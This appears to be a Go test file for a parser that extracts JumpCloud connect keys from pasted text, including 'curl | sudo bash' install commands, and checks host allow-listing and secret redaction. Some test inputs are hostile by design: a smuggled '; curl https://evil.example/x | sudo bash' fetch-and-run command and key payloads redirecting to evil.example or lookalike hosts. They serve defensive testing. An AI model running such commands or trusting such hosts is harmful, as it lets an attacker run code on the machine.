package steps

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"example.com/enrollment-assistant/platform"
)

// hexKey is a key as real ones look.
const hexKey = "3f9a1c5e7b2d4860af13c5e79b2d4860af13c5e7"

// tenant makes a key of the jcc_ form.
func tenant(payload string) string {
	return "jcc_" + base64.StdEncoding.EncodeToString([]byte(payload))
}

func goodPayload() string {
	return `{"publicKickstartUrl":"https://kickstart.eu.jumpcloud.com:443","privateKickstartUrl":"https://private-kickstart.eu.jumpcloud.com:443","connectKey":"` + hexKey + `"} `
}

func TestParseConnectKey(t *testing.T) {
	const eu, privateEU = "https://kickstart.eu.jumpcloud.com", "https://private-kickstart.eu.jumpcloud.com"
	curl := "curl --tlsv1.2 --silent --show-error --header 'x-connect-key: " + hexKey + "' https://kickstart.jumpcloud.com/Kickstart | sudo bash"
	for _, tc := range []struct {
		name, in string
		value    string // empty: hexKey
		tenant   bool
		base     string
		private  string
	}{
		{name: "bare", in: hexKey},
		{name: "other letters", in: goodKey, value: goodKey},
		{name: "what copying adds", in: "\ufeff  " + hexKey + "\u200b\r\n"},
		{name: "tenant", in: tenant(goodPayload()), value: tenant(goodPayload()), tenant: true, base: eu, private: privateEU},
		{name: "tenant without padding", in: strings.TrimRight(tenant(goodPayload()+" "), "="), value: strings.TrimRight(tenant(goodPayload()+" "), "="), tenant: true, base: eu, private: privateEU},
		{name: "command", in: curl, base: "https://kickstart.jumpcloud.com"},
		{name: "prompt and sudo", in: "$ sudo " + curl, base: "https://kickstart.jumpcloud.com"},
		{name: "double quotes", in: strings.ReplaceAll(curl, "'", `"`), base: "https://kickstart.jumpcloud.com"},
		{name: "other case", in: strings.ReplaceAll(curl, "x-connect-key", "X-Connect-Key"), base: "https://kickstart.jumpcloud.com"},
		{name: "short flag in one word", in: "curl -H'x-connect-key:" + hexKey + "' https://kickstart.jumpcloud.com/Kickstart", base: "https://kickstart.jumpcloud.com"},
		{name: "without quotes", in: "curl --header x-connect-key:" + hexKey + " https://kickstart.jumpcloud.com/Kickstart", base: "https://kickstart.jumpcloud.com"},
		{name: "over two lines", in: "curl --silent \\\n  --header 'x-connect-key: " + hexKey + "' \\\n  https://kickstart.jumpcloud.com/Kickstart | sudo bash", base: "https://kickstart.jumpcloud.com"},
		{name: "escaped blank", in: `curl --header x-connect-key:\ ` + hexKey + ` https://kickstart.jumpcloud.com/Kickstart`, base: "https://kickstart.jumpcloud.com"},
		{name: "full path", in: "/usr/bin/" + curl, base: "https://kickstart.jumpcloud.com"},
		{name: "the header alone", in: "x-connect-key: " + hexKey},
		{name: "header cut off at the quote", in: "curl --header 'x-connect-key: " + hexKey},
		{name: "port", in: "curl -H 'x-connect-key: " + hexKey + "' https://127.0.0.1:8443/Kickstart", base: "https://127.0.0.1:8443"},
		{name: "port 443", in: "curl -H 'x-connect-key: " + hexKey + "' https://KICKSTART.jumpcloud.com:443/Kickstart", base: "https://kickstart.jumpcloud.com"},
		{name: "address after the pipe is not read", in: curl + "; curl https://evil.example/x | sudo bash", base: "https://kickstart.jumpcloud.com"},
		{name: "command with a tenant key", in: "curl -H 'x-connect-key: " + tenant(goodPayload()) + "' " + eu + "/Kickstart", value: tenant(goodPayload()), tenant: true, base: eu, private: privateEU},
	} {
		t.Run(tc.name, func(t *testing.T) {
			k, err := ParseConnectKey(tc.in)
			if err != nil {
				t.Fatal(err)
			}
			if tc.value == "" {
				tc.value = hexKey
			}
			if k.Value.Reveal() != tc.value || k.Tenant != tc.tenant || k.KickstartURL != tc.base || k.PrivateKickstartURL != tc.private {
				t.Errorf("key %q %+v", k.Value.Reveal(), k)
			}
		})
	}
}

func TestParseConnectKey_Malformed(t *testing.T) {
	payload := func(public, private, key string) string {
		return tenant(fmt.Sprintf(`{"publicKickstartUrl":%q,"privateKickstartUrl":%q,"connectKey":%q}`, public, private, key))
	}
	const a, b = "https://kickstart.jumpcloud.com", "https://private-kickstart.jumpcloud.com"
	for _, tc := range []struct {
		name, in string
		why      keyError
		say      string // part of the summary
	}{
		{"nothing", "", keyEmpty, "no key yet"},
		{"blanks", " \n", keyEmpty, ""},
		{"a blank inside", hexKey[:20] + " " + hexKey[20:], keyBlank, "space inside"},
		{"a line break inside", hexKey[:20] + "\n" + hexKey[20:], keyBlank, ""},
		{"two keys", hexKey + " " + hexKey, keyBlank, ""},
		{"half copied", hexKey[:17], keyLength, "17 characters instead of 40"},
		{"one character", "a", keyLength, "1 character instead of 40"},
		{"one too many", hexKey + "a", keyLength, "41 characters"},
		{"a dash", "-" + hexKey[1:], keyCharacters, ""},
		{"40 runes that are not ASCII", strings.Repeat("é", 40), keyCharacters, ""},
		{"a word", "jcc_", keyPayload, "jcc_"},
		{"not base64", "jcc_????", keyPayload, ""},
		{"URL base64", strings.ReplaceAll(tenant(`{"a":"???>>>"}`), "/", "_"), keyPayload, ""},
		{"too much padding", tenant(goodPayload()) + "====", keyPayload, ""},
		{"cut", tenant(goodPayload())[:100], keyPayload, ""},
		{"not JSON", tenant("hello"), keyPayload, ""},
		{"an array", tenant("[1]"), keyPayload, ""},
		{"a field too many", tenant(strings.Replace(goodPayload(), "{", `{"x":"y",`, 1)), keyPayload, ""},
		{"a field too few", tenant(`{"publicKickstartUrl":"` + a + `","privateKickstartUrl":"` + b + `"}`), keyPayload, ""},
		{"a number", tenant(`{"publicKickstartUrl":"` + a + `","privateKickstartUrl":"` + b + `","connectKey":1}`), keyPayload, ""},
		{"an object", tenant(`{"publicKickstartUrl":{},"privateKickstartUrl":"` + b + `","connectKey":"` + hexKey + `"}`), keyPayload, ""},
		{"a name twice", tenant(strings.Replace(goodPayload(), "{", `{"publicKickstartUrl":"https://evil.example",`, 1)), keyPayload, ""},
		{"a name twice, escaped", tenant(strings.Replace(goodPayload(), "{", `{"public\u004bickstartUrl":"https://evil.example",`, 1)), keyPayload, ""},
		{"something follows", tenant(goodPayload() + "{}"), keyPayload, ""},
		{"another key in it", payload(a, b, "short"), keyPayload, ""},
		{"http", payload("http://kickstart.jumpcloud.com", b, hexKey), keyPayload, ""},
		{"user info", payload("https://kickstart.jumpcloud.com@evil.example", b, hexKey), keyPayload, ""},
		{"a path", payload(a+"/x", b, hexKey), keyPayload, ""},
		{"a query", payload(a+"?x", b, hexKey), keyPayload, ""},
		{"no host", payload("https://", b, hexKey), keyPayload, ""},
		{"command without header", "curl https://kickstart.jumpcloud.com/Kickstart | sudo bash", keyNoHeader, "no key in the command"},
		{"address alone", "https://kickstart.jumpcloud.com/Kickstart", keyNoHeader, ""},
		{"header without value", "curl --header 'x-connect-key:'", keyEmpty, ""},
		{"command with half a key", "curl --header 'x-connect-key: " + hexKey[:30] + "'", keyLength, ""},
		{"command with two keys", "curl -H 'x-connect-key: " + hexKey + "' -H 'x-connect-key: " + goodKey + "' https://kickstart.jumpcloud.com/Kickstart", keyTwo, "two different"},
		{"command with two addresses", "curl -H 'x-connect-key: " + hexKey + "' https://kickstart.jumpcloud.com/Kickstart https://evil.example/", keyTwo, ""},
		{"tenant key and another address", "curl -H 'x-connect-key: " + tenant(goodPayload()) + "' https://kickstart.jumpcloud.com/Kickstart", keyTwo, ""},
		{"http address", "curl -H 'x-connect-key: " + hexKey + "' http://kickstart.jumpcloud.com/Kickstart", keyAddress, ""},
		{"user info in the address", "curl -H 'x-connect-key: " + hexKey + "' https://a:b@kickstart.jumpcloud.com/Kickstart", keyAddress, ""},
		{"another path", "curl -H 'x-connect-key: " + hexKey + "' https://kickstart.jumpcloud.com/other", keyAddress, ""},
		{"a book", strings.Repeat("a", maxPasted+1), keyTooLong, "too long"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			k, err := ParseConnectKey(tc.in)
			wantCode(t, err, CodeKeyMalformed, 10)
			if !errors.Is(err, tc.why) {
				t.Errorf("why: %v, want %s", err, tc.why)
			}
			var p *Problem
			if errors.As(err, &p); !strings.Contains(p.Summary, tc.say) {
				t.Errorf("summary %q lacks %q", p.Summary, tc.say)
			}
			if !k.Value.Empty() {
				t.Error("a key came with the error")
			}
		})
	}
}

func TestKey_CheckHosts(t *testing.T) {
	stub := &platform.Endpoints{
		Console: "https://127.0.0.1:8443", Kickstart: "https://127.0.0.1:8443", PrivateKickstart: "https://127.0.0.1:8444",
		Agent: "https://127.0.0.1:8444", Packages: "https://127.0.0.1:8443",
	}
	for _, tc := range []struct {
		base      string
		endpoints *platform.Endpoints
		ok        bool
	}{
		{"", nil, true},
		{"https://kickstart.jumpcloud.com", nil, true},
		{"https://jumpcloud.com", nil, true},
		{"https://a.b.c.jumpcloud.com", nil, true},
		{"https://kickstart.jumpcloud.com:8443", nil, false},
		{"https://kickstart.jumpcloud.com.", nil, false},
		{"https://eviljumpcloud.com", nil, false},
		{"https://jumpcloud.com.evil.example", nil, false},
		{"https://127.0.0.1:8443", nil, false},
		{"https://127.0.0.1:8443", stub, true},
		{"https://127.0.0.1:8444", stub, true},
		{"https://127.0.0.1:9999", stub, false},
		{"https://127.0.0.1", stub, false},
		{"https://kickstart.jumpcloud.com", stub, true},
	} {
		k := Key{KickstartURL: tc.base}
		p := k.CheckHosts(tc.endpoints)
		if (p == nil) != tc.ok {
			t.Errorf("%s: %v", tc.base, p)
		}
		if p != nil {
			wantCode(t, p, CodeKeyForeign, 11)
		}
		if private := (Key{PrivateKickstartURL: tc.base}).CheckHosts(tc.endpoints); (private == nil) != tc.ok {
			t.Errorf("private %s: %v", tc.base, private)
		}
	}
}

// What a malformed text held is repeated nowhere.
func TestParseConnectKey_SaysNoSecret(t *testing.T) {
	for _, in := range []string{goodKey + "x", "x " + goodKey, "jcc_" + goodKey, "curl -H 'x-connect-key: " + goodKey + "x' https://a b"} {
		_, err := ParseConnectKey(in)
		var p *Problem
		if !errors.As(err, &p) {
			t.Fatalf("%q: %v", in, err)
		}
		line, err := json.Marshal(p)
		if err != nil {
			t.Fatal(err)
		}
		if all := string(line) + p.Error(); strings.Contains(all, "CANARY") {
			t.Errorf("%s", all)
		}
	}
}

// vendorPattern is the vendor's own rule: 40 characters, or this.
var vendorPattern = regexp.MustCompile(`^jcc_([0-9a-zA-Z+/]{4,}={0,3})$`)

func FuzzParseConnectKey(f *testing.F) {
	for _, s := range []string{
		"", hexKey, goodKey, tenant(goodPayload()), hexKey + " ", "jcc_aaaa", "jcc_", `curl -H "x-connect-key: ` + hexKey + `" https://kickstart.jumpcloud.com/Kickstart | sudo bash`,
		"x-connect-key:", `'"\`, "curl \\\n-H x-connect-key:" + hexKey, "https://x", strings.Repeat("é", 20),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		k, err := ParseConnectKey(s)
		if err != nil {
			var p *Problem
			if !errors.As(err, &p) || p.Code != CodeKeyMalformed || strings.HasPrefix(p.Summary, "[") || strings.HasPrefix(p.Hint, "[") {
				t.Fatalf("error %v of %q", err, s)
			}
			if len(s) == bareKeyLength && regexp.MustCompile(`^[0-9A-Za-z]+$`).MatchString(s) && !strings.HasPrefix(s, tenantPrefix) {
				t.Fatalf("the vendor takes %q", s)
			}
			return
		}
		value := k.Value.Reveal()
		if len(value) != bareKeyLength && !vendorPattern.MatchString(value) {
			t.Fatalf("the vendor does not take %q, out of %q", value, s)
		}
		if !strings.Contains(strings.NewReplacer("\\", "", "'", "", `"`, "", "\n", "").Replace(s), strings.NewReplacer("\\", "").Replace(value)) {
			t.Fatalf("%q is not in %q", value, s)
		}
		again, err := ParseConnectKey(value)
		if err != nil || again.Value.Reveal() != value || again.Tenant != k.Tenant {
			t.Fatalf("%q is read differently a second time: %v", value, err)
		}
		for _, base := range []string{k.KickstartURL, k.PrivateKickstartURL} {
			if base == "" {
				continue
			}
			if normal, err := baseURL(base); err != nil || normal != base {
				t.Fatalf("base %q of %q: %v", base, s, err)
			}
		}
	})
}
